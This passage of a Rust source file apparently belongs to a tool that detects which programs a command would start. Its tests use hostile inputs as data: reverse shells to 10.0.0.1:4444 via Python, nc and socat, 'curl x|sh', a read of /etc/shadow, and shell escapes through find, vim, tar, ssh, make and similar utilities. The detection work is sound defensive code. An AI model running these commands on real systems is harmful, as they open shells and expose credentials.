            vec![Start::Shell(r.trim().to_string())]
        };
    }
    if matches!(c, "sh" | "shell") {
        return vec![Start::Child(vec!["sh".into()])];
    }
    for (prefix, lang) in [
        ("py3 ", Lang::Python),
        ("python3 ", Lang::Python),
        ("py ", Lang::Python),
        ("python ", Lang::Python),
        ("pyx ", Lang::Python),
        ("lua ", Lang::Lua),
        ("perl ", Lang::Perl),
        ("ruby ", Lang::Ruby),
    ] {
        if let Some(src) = c.strip_prefix(prefix) {
            return code(lang, src);
        }
    }
    // `call system('…')`
    if c.contains("system(") {
        return awk_program(c);
    }
    Vec::new()
}

/// rpm's `%(cmd)` macros, nested parentheses balanced.
fn rpm_shell(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = s;
    while let Some(p) = rest.find("%(") {
        let body = &rest[p + 2..];
        let mut depth = 1usize;
        let mut end = None;
        for (i, c) in body.char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = Some(i);
                        break;
                    }
                }
                _ => {}
            }
        }
        let Some(e) = end else { break };
        out.push(body[..e].to_string());
        rest = &body[e + 1..];
        if out.len() >= MAX_STARTS {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(s: &str) -> Vec<String> {
        s.split(' ').map(String::from).collect()
    }

    fn a(words: &[&str]) -> Vec<String> {
        words.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn interpreters_start_what_their_code_calls() {
        assert_eq!(
            starts(&a(&["python3", "-c", "import os; os.system('/bin/sh')"])),
            [Start::Shell("/bin/sh".into())]
        );
        assert_eq!(
            starts(&a(&[
                "python",
                "-c",
                "import pty,socket;s=socket.socket();s.connect((\"10.0.0.1\",4444));pty.spawn(\"/bin/bash\")"
            ])),
            [Start::Child(v("/bin/bash"))]
        );
        assert_eq!(
            starts(&a(&[
                "python3",
                "-c",
                "import os; os.execl('/bin/sh', 'sh', '-p')"
            ])),
            [Start::Replace(v("/bin/sh -p"))]
        );
        assert_eq!(
            starts(&a(&[
                "python3",
                "-c",
                "import subprocess; subprocess.run(['id', '-u']); subprocess.call('curl x|sh', shell=True)"
            ])),
            [Start::Child(v("id -u")), Start::Shell("curl x|sh".into())]
        );
        // Perl: a plain string is exec'd directly, shell syntax through sh.
        assert_eq!(
            starts(&a(&["perl", "-e", "exec \"/bin/sh\";"])),
            [Start::Replace(v("/bin/sh"))]
        );
        assert_eq!(
            starts(&a(&["perl", "-e", "system(\"cat /etc/shadow > /tmp/x\")"])),
            [Start::Shell("cat /etc/shadow > /tmp/x".into())]
        );
        assert_eq!(
            starts(&a(&[
                "perl",
                "-MIO",
                "-e",
                "print `id`; $x = qx{uname -a};"
            ])),
            [Start::Shell("id".into()), Start::Shell("uname -a".into())]
        );
        assert_eq!(
            starts(&a(&["ruby", "-e", "exec '/bin/sh'"])),
            [Start::Replace(v("/bin/sh"))]
        );
        assert_eq!(
            starts(&a(&["php", "-r", "pcntl_exec('/bin/sh', ['-p']);"])),
            [Start::Replace(v("/bin/sh -p"))]
        );
        assert_eq!(
            starts(&a(&["php", "-r", "system('id');"])),
            [Start::Shell("id".into())]
        );
        assert_eq!(
            starts(&a(&["awk", "BEGIN {system(\"/bin/sh\")}"])),
            [Start::Shell("/bin/sh".into())]
        );
        assert_eq!(
            starts(&a(&[
                "awk",
                "-F:",
                "BEGIN {\"id\" | getline x; print x | \"mail root\"}"
            ])),
            [Start::Shell("id".into()), Start::Shell("mail root".into())]
        );
        assert_eq!(
            starts(&a(&["lua", "-e", "os.execute('/bin/sh')"])),
            [Start::Shell("/bin/sh".into())]
        );
        assert_eq!(
            starts(&a(&[
                "node",
                "-e",
                "require('child_process').spawn('/bin/sh', ['-i'], {stdio: [0, 1, 2]})"
            ])),
            [Start::Child(v("/bin/sh -i"))]
        );
        // A regular expression's exec is not a program start.
        assert!(starts(&a(&["node", "-e", "/a/.exec('abc')"])).is_empty());
        assert!(starts(&a(&["python3", "-c", "cur.execute('select 1')"])).is_empty());
        assert!(starts(&a(&["python3", "-c", "print(1)"])).is_empty());
        // A method named exec, and printf's `%x`, start nothing.
        assert!(starts(&a(&["ruby", "-e", "conn.exec(\"SELECT 1\")"])).is_empty());
        assert!(starts(&a(&["php", "-r", "$db->exec(\"CREATE TABLE t(a)\");"])).is_empty());
        assert!(starts(&a(&["perl", "-e", "printf(\"%x\", 255)"])).is_empty());
    }

    #[test]
    fn programs_start_what_their_options_name() {
        assert_eq!(
            starts(&a(&["find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"])),
            [Start::Child(v("/bin/sh -p"))]
        );
        assert_eq!(
            starts(&a(&["vim", "-c", ":!/bin/sh"])),
            [Start::Shell("/bin/sh".into())]
        );
        assert_eq!(
            starts(&a(&[
                "vim",
                "-c",
                ":py3 import os; os.execl(\"/bin/sh\", \"sh\", \"-c\", \"reset; exec sh\")"
            ])),
            [Start::Replace(a(&["/bin/sh", "-c", "reset; exec sh"]))]
        );
        assert_eq!(
            starts(&a(&["gdb", "-nx", "-ex", "!sh", "-ex", "quit"])),
            [Start::Shell("sh".into())]
        );
        assert_eq!(
            starts(&a(&[
                "tar",
                "-cf",
                "/dev/null",
                "/dev/null",
                "--checkpoint=1",
                "--checkpoint-action=exec=/bin/sh"
            ])),
            [Start::Shell("/bin/sh".into())]
        );
        assert_eq!(
            starts(&a(&["zip", "/tmp/x", "/etc/hosts", "-T", "-TT", "sh #"])),
            [Start::Shell("sh #".into())]
        );
        assert_eq!(
            starts(&a(&["ssh", "-o", "ProxyCommand=;sh 0<&2 1>&2", "x"])),
            [Start::Shell("exec ;sh 0<&2 1>&2".into())]
        );
        assert_eq!(
            starts(&a(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])),
            [Start::Replace(v("/bin/sh"))]
        );
        assert_eq!(
            starts(&a(&[
                "socat",
                "tcp-connect:10.0.0.1:4444",
                "exec:'bash -li',pty,stderr"
            ])),
            [Start::Child(v("bash -li"))]
        );
        assert_eq!(
            starts(&a(&["rpm", "--eval", "%(echo %(id))"])),
            [Start::Shell("echo %(id)".into())]
        );
        assert_eq!(
            starts(&a(&["mysql", "-e", "\\! /bin/sh"])),
            [Start::Shell("/bin/sh".into())]
        );
        assert_eq!(
            starts(&a(&["ip", "netns", "exec", "foo", "/bin/sh"])),
            [Start::Replace(v("/bin/sh"))]
        );
        assert_eq!(
            starts(&a(&["script", "-qc", "/bin/bash", "/dev/null"])),
            [Start::Shell("/bin/bash".into())]
        );
        assert_eq!(
            starts(&a(&[
                "split",
                "--filter=/bin/sh -i 0<&2 1>&2",
                "/etc/hosts"
            ])),
            [Start::Shell("/bin/sh -i 0<&2 1>&2".into())]
        );
        assert_eq!(
            starts(&a(&["make", "--eval=$(shell /bin/sh 1>&0)", "."])),
            [Start::Shell("/bin/sh 1>&0".into())]
        );
        assert_eq!(
            starts(&a(&["pdftex", "--shell-escape", "\\write18{/bin/sh}\\end"])),
            [Start::Shell("/bin/sh".into())]
        );
        assert_eq!(
            starts(&a(&[
                "restic",
                "--password-command=/usr/bin/pass show x",
                "backup"
            ])),
            [Start::Child(v("/usr/bin/pass show x"))]
        );
        assert_eq!(
            starts(&a(&["npm", "exec", "/bin/sh"])),
            [Start::Child(v("/bin/sh"))]
        );
        assert!(starts(&a(&["make", "-j2", "all"])).is_empty());
        assert!(starts(&a(&["npm", "ci"])).is_empty());
        assert!(starts(&a(&["find", "/var/log", "-name", "*.gz", "-delete"])).is_empty());
        assert!(starts(&a(&["tar", "-czf", "/backup/x.tgz", "/srv"])).is_empty());
        assert!(starts(&a(&["ssh", "deploy@10.0.0.2", "uptime"])).is_empty());
    }

    #[test]
    fn hostile_code_stays_bounded() {
        let many = "os.system('id');".repeat(10_000);
        assert_eq!(starts(&a(&["python3", "-c", &many])).len(), MAX_STARTS);
        let awk = "BEGIN{".to_string() + &"\"x\" | getline;".repeat(10_000) + "}";
        assert!(starts(&a(&["awk", &awk])).len() <= MAX_STARTS);
        let rpm = "%(".repeat(10_000);
        assert!(starts(&a(&["rpm", "--eval", &rpm])).is_empty());
        for s in ["os.system(", "exec \"", "`", "qx{", "[\"", "pcntl_exec(["] {
            starts(&a(&["python3", "-c", s]));
            starts(&a(&["perl", "-e", s]));
            starts(&a(&["php", "-r", s]));
        }
        assert!(starts(&[]).is_empty());
    }
}
